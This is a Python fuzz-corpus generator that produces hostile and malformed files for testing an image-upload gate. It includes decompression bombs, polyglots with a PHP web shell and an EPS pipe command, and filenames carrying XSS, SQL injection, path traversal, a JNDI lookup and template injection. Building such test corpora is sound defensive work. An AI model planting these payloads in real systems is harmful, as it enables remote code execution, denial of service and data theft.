"Files that nobody should send, for every gate that takes some: none may crash it, and each gets a prediction or a sentence"
import io, random, struct, zlib
import numpy as np
from PIL import Image

MAGIC = {'jpeg': b'\xff\xd8\xff\xe0\0\x10JFIF\0', 'png': b'\x89PNG\r\n\x1a\n', 'gif': b'GIF89a', 'webp': b'RIFF\xff\xff\xff\xffWEBPVP8 ',
         'tiff': b'II*\0\x08\0\0\0', 'tiff-be': b'MM\0*\0\0\0\x08', 'bmp': b'BM', 'heic': b'\0\0\0\x18ftypheic\0\0\0\0',
         'avif': b'\0\0\0\x1cftypavif', 'jp2': b'\0\0\0\x0cjP  \r\n\x87\n', 'ico': b'\0\0\x01\0\x01\0', 'psd': b'8BPS\0\x01',
         'eps': b'%!PS-Adobe-3.0 EPSF-3.0\n', 'pdf': b'%PDF-1.7\n', 'zip': b'PK\x03\x04', 'jxl': b'\xff\x0a'}

# Names that end up in pages, tables, logs and file systems
NAMES = ['<script>window.taken=1</script>.jpg', '<img src=x onerror=window.taken=1>.jpg', '"><svg onload=window.taken=1>.jpg',
         "'; drop table photos; --.jpg", 'a\nb\r\nSet-Cookie: x=1.jpg', '\u202egpj.exe', '../../etc/passwd', '/etc/passwd', 'CON',
         '..\\..\\windows\\system32', ' ', '.', '..', 'ä🏸日本語.jpg', '=1+1.jpg', '@SUM(A1).jpg', '%00.jpg', '%2e%2e%2f.jpg',
         'a'*5000 + '.jpg', '${jndi:ldap://x}.jpg', '{{7*7}}.jpg', 'a\x07\x1b[31m.jpg']


def photo(side=96, seed=0):
    "A photo that is none of a racket"
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, (side*3//4, side, 3), dtype='uint8').repeat(2, 0).repeat(2, 1))


def encode(im, kind, **kw):
    im.save(f := io.BytesIO(), kind, **kw)
    return f.getvalue()


def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))


def png(width, height, *chunks, depth=8, colour=0):
    "A PNG with these chunks after its header"
    header = chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, depth, colour, 0, 0, 0))
    return MAGIC['png'] + header + b''.join(chunks) + chunk(b'IEND', b'')


def zeros(n):
    "`n` zero bytes, compressed, without ever having them in memory"
    z,block = zlib.compressobj(9),bytes(2**20)
    return b''.join(z.compress(block[:min(2**20, n - i)]) for i in range(0, n, 2**20)) + z.flush()


def bombs():
    "Small files that want much memory or time"
    text = zeros(300*2**20)
    yield 'bomb-20000x20000.png', png(20_000, 20_000, chunk(b'IDAT', zeros(20_001*20_000)))
    yield 'bomb-header-only.png', png(60_000, 60_000, chunk(b'IDAT', zeros(1000)))
    yield 'bomb-ztxt.png', png(64, 64, chunk(b'zTXt', b'Comment\0\0' + text), chunk(b'IDAT', zeros(65*64)))
    yield 'bomb-iccp.png', png(64, 64, chunk(b'iCCP', b'icc\0\0' + text), chunk(b'IDAT', zeros(65*64)))
    yield 'bomb-16-bit-rgba.png', png(12_000, 9_000, chunk(b'IDAT', zeros(1000)), depth=16, colour=6)
    screen,image = struct.pack('<HHBBB', 65535, 65535, 0x80, 0, 0) + bytes(6),struct.pack('<HHHHB', 0, 0, 65535, 65535, 0)
    yield 'bomb.gif', MAGIC['gif'] + screen + b',' + image + b'\x02\x02L\x01\0;'
    yield 'bomb.jpg', encode(photo(), 'JPEG').replace(struct.pack('>HH', 144, 192), struct.pack('>HH', 65500, 65500), 1)
    header = struct.pack('<IHHIIiiHHIIiiII', 100, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    yield 'bomb.bmp', MAGIC['bmp'] + header + bytes(60)
    yield 'bomb.webp', b'RIFF' + struct.pack('<I', 26) + b'WEBPVP8L' + struct.pack('<I', 14) + b'/\xff\xff\xff\x0f' + bytes(9)
    frames = [Image.new('P', (64, 64), i % 2) for i in range(2)]*5000
    yield 'frames-10000.gif', encode(frames[0], 'GIF', save_all=True, append_images=frames[1:], duration=10, optimize=False)


def cut():
    "Photos that were cut short"
    for kind,n in ('JPEG', 30), ('PNG', 20), ('WEBP', 10), ('GIF', 10), ('TIFF', 10):
        whole = encode(photo(), kind)
        for i in range(n): yield f'cut-{i}.{kind.lower()}', whole[:len(whole)*i//n]


def polyglots():
    "Files that are two things, or not what their name says"
    jpeg = encode(photo(), 'JPEG')
    yield 'jpeg-and-zip.jpg', jpeg + MAGIC['zip'] + bytes(200)
    yield 'png-and-zip.png', encode(photo(), 'PNG') + MAGIC['zip'] + bytes(200)
    yield 'gif-and-script.gif', b'GIF89a/*' + bytes(20) + b'*/=1;alert(1)'
    yield 'jpeg-and-html.jpg', jpeg[:20] + b'<html><script>alert(1)</script>' + jpeg[20:]
    yield 'pdf-and-jpeg.jpg', MAGIC['pdf'] + jpeg
    yield 'html.jpg', b'<!DOCTYPE html><script>window.taken=1</script>'
    yield 'svg.jpg', b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.taken=1"><image href="file:///etc/passwd"/></svg>'
    yield 'php.jpg', jpeg + b'<?php system($_GET["c"]); ?>'
    yield 'eps.jpg', MAGIC['eps'] + b'%%BoundingBox: 0 0 9999 9999\n(%pipe%id) (w) file\nshowpage\n'
    yield 'psd.jpg', MAGIC['psd'] + bytes(6) + struct.pack('>HIIHH', 3, 30_000, 30_000, 8, 3) + bytes(100)
    for kind in 'TIFF', 'BMP', 'ICO', 'PPM', 'TGA', 'PCX', 'GIF', 'WEBP': yield f'{kind.lower()}.jpg', encode(photo(), kind)
    yield 'text.png', b'strings, grip tape, balls'
    yield 'utf-16.jpg', 'strings, grip tape'.encode('utf-16')
    yield 'empty.jpg', b''
    yield 'one-byte.jpg', b'\xff'


def odd():
    "Photos of rare kinds"
    for w,h in (1, 1), (60_000, 1), (1, 60_000), (31, 31), (2, 3000): yield f'{w}x{h}.png', encode(Image.new('RGB', (w, h)), 'PNG')
    im = photo()
    yield 'cmyk.jpg', encode(im.convert('CMYK'), 'JPEG')
    yield 'gray.jpg', encode(im.convert('L'), 'JPEG')
    rng = np.random.default_rng(0)
    yield '16-bit.png', encode(Image.fromarray(rng.integers(0, 2**16, (100, 100), dtype='uint16')), 'PNG')
    yield 'float.tiff', encode(Image.fromarray(rng.random((100, 100), dtype='float32')), 'TIFF')
    yield '1-bit.png', encode(im.convert('1'), 'PNG')
    yield 'palette-transparent.png', encode(im.convert('P'), 'PNG', transparency=3)
    yield 'gray-alpha.png', encode(im.convert('LA'), 'PNG')
    yield 'progressive.jpg', encode(im, 'JPEG', progressive=True)
    yield 'bad-icc.jpg', encode(im, 'JPEG', icc_profile=random.Random(0).randbytes(3000))
    yield 'bad-icc.png', encode(im, 'PNG', icc_profile=b'no profile')
    bad = b'', b'II*\0\xff\xff\xff\xff', b'MM\0*\0\0\0\x08\xff\xff' + bytes(50), random.Random(1).randbytes(2000)
    for i,exif in enumerate(bad):
        yield f'bad-exif-{i}.jpg', encode(im, 'JPEG', exif=b'Exif\0\0' + exif)
    for orientation in 0, 9, 65535:
        exif = Image.Exif()
        exif[0x0112] = orientation
        yield f'orientation-{orientation}.jpg', encode(im, 'JPEG', exif=exif)


def noise():
    "The signature of a format, and then anything"
    for kind,magic in MAGIC.items():
        for seed in range(3): yield f'noise-{seed}.{kind}', magic + random.Random(f'{kind} {seed}').randbytes(500)


def corpus():
    "All of them: name → content"
    return {name: data for group in (bombs(), cut(), polyglots(), odd(), noise()) for name,data in group}
